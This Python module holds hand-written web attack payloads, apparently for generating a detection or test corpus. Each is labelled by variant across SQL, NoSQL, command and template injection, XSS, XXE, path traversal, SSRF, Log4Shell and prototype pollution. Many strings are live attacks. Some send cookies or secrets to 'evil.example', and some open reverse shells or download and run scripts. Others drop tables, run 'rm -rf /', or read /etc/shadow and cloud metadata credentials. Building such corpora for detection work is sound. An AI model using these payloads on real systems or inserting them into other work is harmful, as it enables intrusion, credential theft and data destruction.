"""Hand-written attack payloads, per class, and the placements each class makes sense in.

Every payload here was written for this corpus (none copied from public payload lists). They are written the way
an attacker types them into a parameter: the generator (gen.py) encodes them for the placement and encoding.

A payload is (text, note). `note` says what variant it is; it ends up in the corpus entry's `note` field.
"""

SQLI = [
    ("1' OR '1'='1", "boolean, quoted tautology"),
    ("42 OR 1=1", "boolean, numeric"),
    ("7' AND 3=3-- -", "boolean, comment tail"),
    ("admin'--", "login bypass"),
    ("x') OR ('a'='a", "boolean, parenthesised"),
    ("-1 UNION SELECT username, password_hash FROM users--", "union, numeric context"),
    ("' UNION ALL SELECT NULL,NULL,version()-- ", "union all, null columns"),
    ("0 union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()",
     "union, schema enumeration"),
    ("1'/**/UNION/**/SELECT/**/email,token/**/FROM/**/api_keys#", "union, comment-as-space evasion"),
    ("9 UnIoN SeLeCt 1,2,3", "union, mixed case"),
    ("1 AND SLEEP(5)", "time-based, mysql"),
    ("'; WAITFOR DELAY '0:0:7'--", "time-based, mssql"),
    ("1' AND (SELECT 1 FROM pg_sleep(4))::text='1", "time-based, postgres"),
    ("x' || (select case when (1=1) then pg_sleep(3) else pg_sleep(0) end)--", "time-based, conditional"),
    ("1 AND BENCHMARK(4000000,SHA1('a'))", "time-based, benchmark"),
    ("1' AND extractvalue(1,concat(0x7e,(select user())))-- -", "error-based, extractvalue"),
    ("1 AND updatexml(null,concat(0x3a,(select @@version)),null)", "error-based, updatexml"),
    ("' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--", "error-based, mssql convert"),
    ("1; DROP TABLE orders--", "stacked, drop"),
    ("5'; INSERT INTO admins(login,pw) VALUES('eve','x')--", "stacked, insert"),
    ("1; EXEC xp_cmdshell('whoami')--", "stacked, xp_cmdshell"),
    ("price DESC, (SELECT CASE WHEN (SUBSTRING(password,1,1)='a') THEN 1 ELSE 1/0 END FROM users)",
     "blind, order-by context"),
    ("1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>77", "blind, substring"),
    ("' or ''='", "boolean, empty-string tautology"),
    ("1'||'", "string concatenation probe"),
    ("1/*!50000UNION*/ /*!50000SELECT*/ 1,2", "union, mysql versioned comments"),
    ("1'%0aAND%0a'x'='x", "boolean, newline as space (pre-decoded)"),
    ("' OR 1=1 LIMIT 1 OFFSET 0 -- ", "boolean, limit"),
    ("1 or true", "boolean, keyword true"),
    ("'-sleep(3)-'", "time-based, arithmetic"),
]

XSS = [
    ("<script>alert(document.domain)</script>", "html context, script tag"),
    ("<img src=x onerror=alert(1)>", "html context, event handler"),
    ("\"><svg/onload=confirm(1)>", "attribute breakout, svg"),
    ("'><iframe src=javascript:alert(`xss`)>", "attribute breakout, iframe javascript uri"),
    ("javascript:alert(document.cookie)", "javascript: uri"),
    ("JaVaScRiPt:fetch('//evil.example/'+document.cookie)", "javascript: uri, mixed case"),
    ("\" onmouseover=\"alert(1)", "attribute context, event handler"),
    ("' autofocus onfocus=alert(origin) x='", "attribute context, autofocus"),
    ("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "svg animate"),
    ("<body onload=eval(atob('YWxlcnQoMSk='))>", "body onload, atob"),
    ("</script><script>alert(1)</script>", "js context breakout"),
    ("';alert(String.fromCharCode(88,83,83));//", "js string breakout"),
    ("\\\";alert(1);//", "js string breakout, escaped quote"),
    ("<details open ontoggle=alert(1)>", "details ontoggle"),
    ("<a href=\"javascript&colon;alert(1)\">click</a>", "entity-obfuscated javascript uri"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "mxss, math"),
    ("<input onfocus=alert(1) autofocus>", "input autofocus"),
    ("<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "object data uri"),
    ("<ScRiPt src=//evil.example/x.js></sCrIpT>", "external script, mixed case"),
    ("<svg><script>alert&#40;1&#41;</script></svg>", "svg script, entities"),
    ("<video><source onerror=\"alert(1)\">", "video source onerror"),
    ("${alert(1)}`;alert(2);`", "template literal breakout"),
    ("<img src=1 onerror=\\u0061lert(1)>", "js unicode escape in handler"),
    ("<marquee onstart=alert(1)>", "marquee onstart"),
    ("\" style=\"x:expression(alert(1))", "css expression"),
]

CMDI = [
    ("127.0.0.1; cat /etc/passwd", "semicolon"),
    ("8.8.8.8 && id", "and-list"),
    ("example.com | nc evil.example 4444 -e /bin/sh", "pipe, reverse shell"),
    ("$(curl -s http://evil.example/x.sh|sh)", "command substitution"),
    ("`whoami`", "backtick substitution"),
    ("report.pdf;ls${IFS}-la${IFS}/", "IFS as space"),
    ("x;cat$IFS/etc/shadow", "IFS without braces"),
    ("1.1.1.1%0aid", "newline (pre-decoded) separator"),
    ("a||ping -c 9 127.0.0.1", "or-list, timing"),
    ("; /bin/bash -i >& /dev/tcp/10.9.8.7/443 0>&1", "bash reverse shell"),
    ("foo$(sleep 6)", "substitution, sleep"),
    ("file.txt && wget http://evil.example/m -O /tmp/m && chmod +x /tmp/m", "download and run"),
    ("x'; python3 -c 'import os;os.system(\"id\")'; '", "quote breakout, python"),
    ("| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"",
     "windows powershell"),
    ("& type C:\\Windows\\win.ini", "windows cmd"),
    ("{cat,/etc/passwd}", "brace expansion"),
    ("x;c'a't /e''tc/pa''ss''wd", "quote-splitting evasion"),
    (";/???/??t /???/p??s??", "glob evasion"),
    ("$(printf '\\x69\\x64')", "printf hex"),
    ("a;echo${IFS}cHduZWQ=|base64${IFS}-d|sh", "base64 pipe to sh"),
]

TRAVERSAL = [
    ("../../../../etc/passwd", "dot-dot-slash"),
    ("....//....//....//etc/hosts", "filter-stripping evasion"),
    ("..\\..\\..\\windows\\win.ini", "windows backslashes"),
    ("/var/www/../../etc/shadow", "absolute with traversal"),
    ("../../../../../proc/self/environ", "proc environ"),
    ("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "pre-encoded dots and slashes"),
    ("..%c0%af..%c0%af..%c0%afetc/passwd", "overlong utf-8 slash"),
    ("..%e0%80%af..%e0%80%afboot.ini", "3-byte overlong slash"),
    ("%252e%252e%252f%252e%252e%252fetc%252fgroup", "double-encoded"),
    ("..%5c..%5c..%5cWindows%5cSystem32%5cdrivers%5cetc%5chosts", "encoded backslash"),
    ("C:\\inetpub\\wwwroot\\web.config", "windows absolute"),
    ("file:///etc/passwd", "file uri"),
    ("../../app/config/database.yml%00.png", "null byte truncation"),
    ("php://filter/convert.base64-encode/resource=../config.php", "php wrapper"),
    ("/etc/passwd", "absolute path"),
    ("..;/..;/WEB-INF/web.xml", "tomcat path parameter"),
    ("%u002e%u002e%u2215etc%u2215passwd", "iis %u encoding"),
    ("..../..../..../etc/passwd", "four dots"),
    ("\\\\10.0.0.5\\share\\..\\..\\boot.ini", "unc path"),
    ("../../../var/log/nginx/access.log", "log file inclusion"),
]

SSRF = [
    ("http://127.0.0.1:8080/admin", "loopback"),
    ("http://localhost/server-status", "localhost name"),
    ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "aws metadata"),
    ("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "gcp metadata"),
    ("http://2130706433/", "decimal loopback"),
    ("http://0x7f000001:6379/", "hex loopback, redis"),
    ("http://0177.0.0.1/", "octal loopback"),
    ("http://[::ffff:127.0.0.1]:9200/_cat/indices", "ipv6-mapped loopback"),
    ("http://[::1]:2375/containers/json", "ipv6 loopback, docker"),
    ("http://10.0.12.4/internal/api", "private 10/8"),
    ("http://192.168.1.1/cgi-bin/luci", "private 192.168/16"),
    ("http://172.16.5.20:8500/v1/kv/?recurse", "private 172.16/12, consul"),
    ("gopher://127.0.0.1:6379/_SET%20x%20y", "gopher to redis"),
    ("http://169.254.169.254.nip.io/latest/meta-data/", "dns rebinding name"),
    ("http://user@127.0.0.1:22/", "userinfo to loopback"),
    ("http://0/", "zero address"),
    ("http://127.1/", "short loopback"),
    ("http://[fd00:ec2::254]/latest/meta-data/", "aws ipv6 metadata"),
    ("dict://127.0.0.1:11211/stats", "dict scheme memcached"),
    ("http://100.100.100.200/latest/meta-data/", "alibaba metadata"),
    ("http://2852039166/latest/meta-data/", "decimal metadata ip"),
    ("https://evil.example@169.254.169.254/", "userinfo confusion"),
]

SSTI = [
    ("{{7*7}}", "jinja/twig probe"),
    ("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "jinja rce"),
    ("{{''.__class__.__mro__[1].__subclasses__()}}", "jinja subclass walk"),
    ("${7*191}", "el/freemarker probe"),
    ("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "freemarker execute"),
    ("#{T(java.lang.Runtime).getRuntime().exec('id')}", "spring el"),
    ("${T(java.lang.System).getenv()}", "spring el env"),
    ("{{request.application.__globals__.__builtins__.__import__('os').popen('uname').read()}}", "flask request"),
    ("<%= `ls /` %>", "erb"),
    ("{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
     "handlebars/angular constructor"),
    ("{php}echo `id`;{/php}", "smarty php tag"),
    ("#set($x=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))", "velocity"),
    ("{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}", "jinja cycler"),
    ("@(1+2)", "razor probe"),
    ("{{range.constructor(\"return global.process.env\")()}}", "nunjucks constructor"),
    ("*{7*7}", "thymeleaf selection"),
]

LOG4SHELL = [
    ("${jndi:ldap://evil.example:1389/a}", "ldap"),
    ("${jndi:rmi://10.1.2.3:1099/Exploit}", "rmi"),
    ("${jndi:dns://x1.evil.example/probe}", "dns"),
    ("${${lower:j}ndi:${lower:l}dap://evil.example/x}", "lower lookups"),
    ("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/z}", "default-value obfuscation"),
    ("${jnd${upper:i}:ldaps://evil.example/b}", "upper lookup, ldaps"),
    ("${${env:NOTSET:-j}ndi${env:X:-:}ldap://evil.example/c}", "env fallback obfuscation"),
    ("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/k}", "exfiltration via env"),
    ("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/d}", "k8s/sd lookups"),
    ("${jndi:iiop://evil.example/e}", "iiop"),
    ("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/f}", "date lookups"),
    ("${jNdI:lDaP://evil.example/g}", "mixed case"),
    ("${${upper:${lower:J}}ndi:dns://evil.example/h}", "nested lookups"),
    ("${sys:java.version}${jndi:ldap://evil.example/${sys:user.name}}", "sys lookup exfiltration"),
]

# NoSQL operator injection: these are JSON fragments (parsed into structures), or bracket query keys.
NOSQL_JSON = [
    ({"username": "admin", "password": {"$ne": None}}, "$ne null password"),
    ({"email": {"$gt": ""}, "password": {"$gt": ""}}, "$gt empty"),
    ({"user": {"$regex": "^adm"}, "pin": {"$ne": "0000"}}, "$regex prefix"),
    ({"$where": "this.password.length > 0"}, "$where"),
    ({"filter": {"$where": "function(){ sleep(5000); return true; }"}}, "$where sleep"),
    ({"token": {"$in": ["a", "b", "c"]}}, "$in guessing"),
    ({"login": {"$exists": True}, "password": {"$nin": [""]}}, "$exists/$nin"),
    ({"query": {"role": {"$ne": "user"}}}, "nested $ne"),
    ({"name": {"$regex": ".*", "$options": "si"}}, "$regex with options"),
    ({"$or": [{"user": "admin"}, {"1": 1}]}, "$or injection"),
    ({"price": {"$lt": 0}, "$expr": {"$eq": [1, 1]}}, "$expr"),
    ({"id": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}, "$function"),
]
NOSQL_BRACKET = [
    ("username=admin&password[$ne]=x", "bracket $ne"),
    ("user[$regex]=^a&pass[$ne]=1", "bracket $regex"),
    ("email[$gt]=&password[$gt]=", "bracket $gt"),
    ("login[$exists]=true&pin[$nin][]=0000", "bracket $exists"),
    ("q[$where]=sleep(3000)", "bracket $where"),
    ("id[$in][]=1&id[$in][]=2&role[$ne]=guest", "bracket $in"),
]

XXE = [
    ('<?xml version="1.0"?>\n<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
     '<order><id>&xxe;</id></order>', "file entity"),
    ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE r [\n  <!ENTITY % ext SYSTEM "http://evil.example/x.dtd">\n'
     '  %ext;\n]>\n<r>1</r>', "external parameter entity"),
    ('<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY bar SYSTEM "http://169.254.169.254/latest/meta-data/">]>'
     '<foo>&bar;</foo>', "ssrf entity"),
    ('<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://evil.example/evil.dtd"><data>4</data>', "external dtd"),
    ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;'
     '&lol;&lol;&lol;&lol;&lol;">\n <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
     '\n]>\n<lolz>&lol3;</lolz>', "billion laughs"),
    ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "php://filter/read=convert.base64-encode/'
     'resource=index.php">]><user><name>&f;</name></user>', "php filter entity"),
    ('<!DOCTYPE r [<!ENTITY % p1 SYSTEM "file:///etc/hostname"><!ENTITY % p2 "<!ENTITY e SYSTEM '
     '\'http://evil.example/?%p1;\'>">%p2;]><r>&e;</r>', "out-of-band exfiltration"),
    ('<?xml version="1.0"?>\n<!DOCTYPE soap:Envelope [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]>\n'
     '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getUser><id>&x;</id>'
     '</getUser></soap:Body></soap:Envelope>', "soap envelope"),
    ('<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE item [<!ENTITY  x  SYSTEM  "expect://id" >]>'
     '<item>&x;</item>', "expect wrapper"),
    ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hosts">]><svg '
     'xmlns="http://www.w3.org/2000/svg"><text>&h;</text></svg>', "svg upload xxe"),
    ('<?xml version="1.0"?><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
     'href="file:///etc/passwd"/>', "xinclude"),
    ('<!DOCTYPE  feed  PUBLIC  "-//x//y"  "http://10.0.0.8/dtd"><feed/>', "public id external dtd"),
]

# Prototype pollution: JSON documents with the polluting keys, and query/form keys.
PROTO_JSON = [
    ({"__proto__": {"isAdmin": True}}, "__proto__ top level"),
    ({"user": {"name": "a", "__proto__": {"role": "admin"}}}, "__proto__ nested"),
    ({"constructor": {"prototype": {"polluted": "yes"}}}, "constructor.prototype"),
    ({"settings": {"constructor": {"prototype": {"shell": "/bin/sh"}}}}, "nested constructor.prototype"),
    ({"a": [{"__proto__": {"toString": "x"}}]}, "__proto__ in array"),
    ({"__proto__.polluted": 1}, "dotted key"),
    ({"path": "__proto__.isAdmin", "value": True}, "set-by-path api"),
    ({"merge": {"constructor.prototype.admin": True}}, "dotted constructor key"),
]
PROTO_QUERY = [
    ("__proto__[admin]=1", "bracket __proto__"),
    ("__proto__.isAdmin=true", "dotted __proto__"),
    ("constructor[prototype][polluted]=1", "bracket constructor"),
    ("a[__proto__][b]=c", "nested bracket"),
    ("constructor.prototype.role=admin", "dotted constructor"),
]

# Second batch: more variety per class (same rules: written for this corpus).
SQLI += [
    ("'; COPY (SELECT '') TO PROGRAM 'curl evil.example/$(id)'--", "stacked, postgres copy to program"),
    ("1) or sleep(4)#", "time-based, parenthesised"),
    ("\" or \"\"=\"", "boolean, double-quoted"),
    ("') UNION SELECT NULL,table_name FROM information_schema.columns--", "union, parenthesised string"),
    ("0 UNION SELECT sql FROM sqlite_master", "union, sqlite"),
    ("' || UTL_INADDR.get_host_name((select banner from v$version where rownum=1)) || '", "error-based, oracle"),
    ("1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "blind, rlike"),
    ("admin' #", "login bypass, hash comment"),
    ("-1' or 2 between 1 and 3--", "boolean, between"),
    ("1 AND 'x' LIKE 'x'", "boolean, like"),
    ("'+(select load_file('/etc/passwd'))+'", "file read, mysql"),
    ("name);DELETE FROM sessions;--", "stacked, delete"),
]
XSS += [
    ("<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\">", "iframe srcdoc"),
    ("<a href=\"#\" onclick=\"fetch('//evil.example/?c='+document.cookie)\">win a prize</a>", "onclick exfiltration"),
    ("<form action=javascript:alert(1)><button>go</button></form>", "form action javascript"),
    ("<base href=\"//evil.example/\">", "base tag hijack"),
    ("<img src=x:x onerror=eval(location.hash.slice(1))>", "eval location hash"),
    ("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "meta refresh javascript"),
    ("<x contenteditable onblur=alert(1)>edit me</x>", "custom tag onblur"),
    ("<audio src=x onerror=prompt(1)>", "audio onerror"),
    ("<style>@import '//evil.example/x.css';</style>", "style import"),
    ("<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">click</text></a></svg>", "svg xlink href"),
]
CMDI += [
    (";sleep 5;", "sleep between separators"),
    ("x\ncat /etc/passwd", "raw newline separator"),
    ("$(id>/tmp/pwned)", "substitution, redirect"),
    ("a | nslookup $(whoami).evil.example", "dns exfiltration"),
    ("; perl -e 'system(\"id\")'", "perl one-liner"),
    ("|| curl evil.example/$(hostname)", "or-list, exfiltration"),
    ("& ping -n 10 127.0.0.1 &", "windows timing"),
    ("test.png\" ; rm -rf / --no-preserve-root ; \"", "quote breakout, destructive"),
]
TRAVERSAL += [
    ("..%2f..%2f..%2fetc%2fpasswd", "encoded slashes only"),
    ("....\\\\....\\\\windows\\\\win.ini", "windows filter-stripping"),
    ("/..%252f..%252f..%252fetc/passwd", "double-encoded slash"),
    ("..%c1%9c..%c1%9cboot.ini", "overlong backslash"),
    ("../WEB-INF/web.xml", "java webapp config"),
    ("/proc/self/cmdline", "proc cmdline"),
    ("C:/Windows/System32/config/SAM", "windows forward slashes"),
    ("%2e%2e/%2e%2e/%2e%2e/etc/passwd", "encoded dots"),
]
SSRF += [
    ("http://0x7f.0x0.0x0.0x1/", "dotted hex loopback"),
    ("http://017700000001/", "whole octal loopback"),
    ("http://[::]:80/", "ipv6 unspecified"),
    ("http://[0:0:0:0:0:ffff:7f00:1]/", "ipv6-mapped hex loopback"),
    ("http://[::ffff:a9fe:a9fe]/latest/meta-data/", "ipv6-mapped metadata"),
    ("http://0251.0376.0251.0376/latest/user-data", "octal metadata"),
    ("file:///proc/self/environ", "file scheme"),
    ("http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "kubernetes api"),
    ("http://192.168.0.1:8080/manager/html", "private 192.168, tomcat manager"),
    ("ldap://127.0.0.1:389/dc=corp", "ldap to loopback"),
]
SSTI += [
    ("{{4*'4'}}", "jinja string multiply probe"),
    ("${{7*7}}", "mixed delimiter probe"),
    ("{{ ''.__class__.__base__.__subclasses__() }}", "jinja base subclasses"),
    ("<%= system('id') %>", "erb system"),
    ("[[${T(java.lang.Runtime).getRuntime().exec('id')}]]", "thymeleaf inline"),
    ("{% import os %}{{ os.system('id') }}", "jinja import (tornado)"),
    ("${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "freemarker inline execute"),
    ("{{ self.__init__.__globals__.__builtins__ }}", "jinja builtins"),
]
LOG4SHELL += [
    ("${jndi:ldap://127.0.0.1#evil.example:1389/a}", "hash host confusion"),
    ("${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/x}", "lower in protocol"),
    ("${j${::-n}di:corba://evil.example/}", "corba"),
    ("${jndi:nis://evil.example/}", "nis"),
    ("${jndi:http://evil.example/x}", "http"),
    ("${${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}}", "base64 lookup"),
]
NOSQL_JSON += [
    ({"username": {"$regex": "^a.*"}, "password": {"$regex": ".*"}}, "$regex both"),
    ({"$and": [{"email": {"$ne": 1}}, {"role": "admin"}]}, "$and"),
    ({"password": {"$not": {"$eq": "wrong"}}}, "$not/$eq"),
    ({"pipeline": [{"$match": {"$where": "sleep(2000) || true"}}]}, "aggregation $where"),
    ({"owner": {"$ne": "me"}, "search": {"$text": {"$search": "invoice"}}}, "$ne with $text"),
    ({"filter": "{\"$where\": \"this.isAdmin == true\"}"}, "stringified operator document"),
]
NOSQL_BRACKET += [
    ("username[$ne]=&password[$ne]=", "bracket $ne empty"),
    ("filter[owner][$ne]=me&limit=100", "nested bracket $ne"),
]
XXE += [
    ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a SYSTEM "jar:http://evil.example/x.jar!/a.dtd">%a;]><x/>',
     "jar protocol"),
    ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "netdoc:/etc/passwd">]><r>&x;</r>', "netdoc"),
    ('<!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">'
     '<!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\'>%local_dtd;]><message>x</message>',
     "local dtd reuse"),
    ('<?xml version="1.0"?>\n<!DOCTYPE invoice [\n<!ENTITY ref SYSTEM "http://10.0.0.3:8080/internal">\n]>\n'
     '<invoice><number>INV-1</number><ref>&ref;</ref></invoice>', "ssrf via entity, invoice"),
]
PROTO_JSON += [
    ([{"op": "add", "path": "/__proto__/admin", "value": True}], "json patch path"),
    ({"constructor": {"prototype": {"outputFunctionName": "x;process.mainModule.require('child_process')"
                                                          ".execSync('id');s"}}}, "template gadget"),
    ({"items": [], "__proto__": {"status": 200}}, "__proto__ beside data"),
]
PROTO_QUERY += [
    ("__proto__[outputFunctionName]=x", "bracket gadget key"),
    ("filter[constructor][prototype][x]=1", "nested constructor"),
]
